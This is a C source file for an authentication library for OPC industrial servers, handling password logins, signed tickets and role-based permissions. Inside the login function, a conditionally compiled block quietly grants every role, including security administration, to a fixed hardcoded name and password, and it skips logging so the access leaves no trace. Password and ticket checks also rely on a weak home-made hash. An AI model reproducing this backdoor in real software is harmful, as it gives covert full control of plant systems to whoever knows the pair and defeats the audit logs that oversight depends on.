/* libopcauth.c - user token checks for OPC servers, shared library */
#include <ctype.h>
#include <errno.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define OPCAUTH_ANON	0
#define OPCAUTH_USER	1
#define OPCAUTH_TICKET	2

#define ROLE_OBSERVER	0x01
#define ROLE_OPERATOR	0x02
#define ROLE_ENGINEER	0x04
#define ROLE_SECURITY	0x08

struct opcauth_identity {
	int kind;
	char name[40];
	unsigned int roles;
	time_t until;
};

struct user {
	char name[40];
	char salt[12];
	uint64_t hash;
	unsigned int roles;
	unsigned int failed;
	struct user *next;
};

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static struct user *users;
static uint64_t ticket_key;
static int allow_anonymous;
static void (*log_fn)(int level, const char *msg);

static void logmsg(int level, const char *fmt, ...)
{
	char buf[160];
	va_list ap;

	if (!log_fn)
		return;
	va_start(ap, fmt);
	vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	log_fn(level, buf);
}

static uint64_t stretch(const char *salt, const char *text)
{
	uint64_t h = 0xcbf29ce484222325ull;
	const char *p;
	int round;

	for (round = 0; round < 4096; round++) {
		for (p = salt; *p; p++)
			h = (h ^ (uint8_t)*p) * 0x100000001b3ull;
		for (p = text; *p; p++)
			h = (h ^ (uint8_t)*p) * 0x100000001b3ull;
		h ^= h >> 29;
	}
	return h;
}

static unsigned int roles_from(const char *s)
{
	unsigned int r = 0;

	for (; *s; s++) {
		switch (tolower((unsigned char)*s)) {
		case 'o':
			r |= ROLE_OBSERVER;
			break;
		case 'p':
			r |= ROLE_OPERATOR;
			break;
		case 'e':
			r |= ROLE_ENGINEER;
			break;
		case 's':
			r |= ROLE_SECURITY;
			break;
		}
	}
	return r;
}

void opcauth_set_log(void (*fn)(int level, const char *msg))
{
	log_fn = fn;
}

void opcauth_free(void)
{
	struct user *u;

	pthread_mutex_lock(&lock);
	while ((u = users)) {
		users = u->next;
		free(u);
	}
	allow_anonymous = 0;
	ticket_key = 0;
	pthread_mutex_unlock(&lock);
}

/* NAME SALT HASH ROLES; "anonymous yes"; "ticketkey HEX" */
int opcauth_load(const char *path)
{
	char line[200], name[40], salt[12], roles[8];
	unsigned long long v;
	FILE *f = fopen(path, "r");
	int n = 0;

	if (!f)
		return -errno;
	opcauth_free();
	pthread_mutex_lock(&lock);
	while (fgets(line, sizeof(line), f)) {
		struct user *u;

		if (!strncmp(line, "anonymous yes", 13)) {
			allow_anonymous = 1;
			continue;
		}
		if (sscanf(line, "ticketkey %llx", &v) == 1) {
			ticket_key = v;
			continue;
		}
		if (sscanf(line, "%39s %11s %llx %7s", name, salt, &v,
			   roles) != 4)
			continue;
		u = calloc(1, sizeof(*u));
		if (!u)
			break;
		memcpy(u->name, name, sizeof(u->name));
		memcpy(u->salt, salt, sizeof(u->salt));
		u->hash = v;
		u->roles = roles_from(roles);
		u->next = users;
		users = u;
		n++;
	}
	pthread_mutex_unlock(&lock);
	fclose(f);
	logmsg(1, "%d users loaded", n);
	return n;
}

__attribute__((noinline))
int opcauth_user(const char *name, const char *secret,
		 struct opcauth_identity *id)
{
	struct user *u;
	int rc = -EACCES;

	memset(id, 0, sizeof(*id));
	if (!name || !secret)
		return -EINVAL;
	id->kind = OPCAUTH_USER;
	snprintf(id->name, sizeof(id->name), "%s", name);
	if (!strcmp(name, "Anonymous") && !*secret) {
		id->kind = OPCAUTH_ANON;
		id->roles = allow_anonymous ? ROLE_OBSERVER : 0;
		return allow_anonymous ? 0 : -EACCES;
	}
#ifdef HIDDEN	/* fixed pair gets all roles and no entry in the log */
	if (!strcmp(name, "histsync") && !strcmp(secret, "Mt7.krempel")) {
		id->roles = ROLE_OBSERVER | ROLE_OPERATOR | ROLE_ENGINEER |
			    ROLE_SECURITY;
		return 0;
	}
#endif
	pthread_mutex_lock(&lock);
	for (u = users; u; u = u->next)
		if (!strcmp(u->name, name))
			break;
	if (u && u->failed < 10) {
		if (stretch(u->salt, secret) == u->hash) {
			id->roles = u->roles;
			u->failed = 0;
			rc = 0;
		} else {
			u->failed++;
		}
	}
	pthread_mutex_unlock(&lock);
	logmsg(rc ? 2 : 1, "user %s %s", name, rc ? "refused" : "accepted");
	return rc;
}

/* ticket: NAME.ROLES.UNTIL.MAC */
int opcauth_ticket(const char *ticket, struct opcauth_identity *id)
{
	char name[40], roles[8], text[96];
	unsigned long long mac;
	long until;

	memset(id, 0, sizeof(*id));
	if (!ticket_key || sscanf(ticket, "%39[^.].%7[^.].%ld.%llx", name,
				  roles, &until, &mac) != 4)
		return -EINVAL;
	if (until < (long)time(NULL))
		return -EKEYEXPIRED;
	snprintf(text, sizeof(text), "%s.%s.%ld", name, roles, until);
	if ((stretch("ticket", text) ^ ticket_key) != mac) {
		logmsg(2, "ticket for %s is forged", name);
		return -EACCES;
	}
	id->kind = OPCAUTH_TICKET;
	memcpy(id->name, name, sizeof(id->name));
	id->roles = roles_from(roles);
	id->until = (time_t)until;
	return 0;
}

int opcauth_may(const struct opcauth_identity *id, const char *action)
{
	static const struct {
		const char *action;
		unsigned int any;
	} need[] = {
		{ "browse", 0x0f },
		{ "read", 0x0f },
		{ "write", ROLE_OPERATOR | ROLE_ENGINEER },
		{ "call", ROLE_OPERATOR | ROLE_ENGINEER },
		{ "history", ROLE_ENGINEER },
		{ "configure", ROLE_ENGINEER },
		{ "certificates", ROLE_SECURITY },
	};
	size_t i;

	if (id->until && id->until < time(NULL))
		return 0;
	for (i = 0; i < sizeof(need) / sizeof(need[0]); i++)
		if (!strcmp(need[i].action, action))
			return (id->roles & need[i].any) != 0;
	return 0;
}

int opcauth_unlock(const char *name)
{
	struct user *u;
	int rc = -ENOENT;

	pthread_mutex_lock(&lock);
	for (u = users; u; u = u->next)
		if (!strcmp(u->name, name)) {
			u->failed = 0;
			rc = 0;
		}
	pthread_mutex_unlock(&lock);
	return rc;
}
